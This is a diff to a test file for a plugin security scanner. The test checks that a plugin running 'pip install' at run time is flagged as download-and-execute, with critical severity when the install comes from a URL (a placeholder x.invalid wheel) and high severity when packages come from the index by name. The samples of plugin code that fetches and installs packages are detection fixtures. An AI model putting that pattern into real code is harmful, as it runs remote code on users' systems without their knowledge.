@@ -174,7 +174,10 @@ def test_commands_read_from_a_socket_are_download_exec_and_output_piped_in_is_no
 
 def test_pip_install_at_run_time_is_download_exec() -> None:
     bad = "import subprocess, sys\ndef deps():\n    subprocess.run([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])\n"
-    assert _rules(scan({"plug/__init__.py": bad}))["download-exec"] == (Severity.CRITICAL, 3)
+    # packages by name from the index: a policy breach for review (high); from a URL: critical
+    assert _rules(scan({"plug/__init__.py": bad}))["download-exec"] == (Severity.HIGH, 3)
+    url = bad.replace("'-r', 'requirements.txt'", "'https://x.invalid/p.whl'")
+    assert _rules(scan({"plug/__init__.py": url}))["download-exec"] == (Severity.CRITICAL, 3)
     twin = "import subprocess, sys\ndef version():\n    return subprocess.run([sys.executable, '-m', 'pip', '--version'], capture_output=True)\n"
     assert "download-exec" not in _rules(scan({"plug/__init__.py": twin}))
 
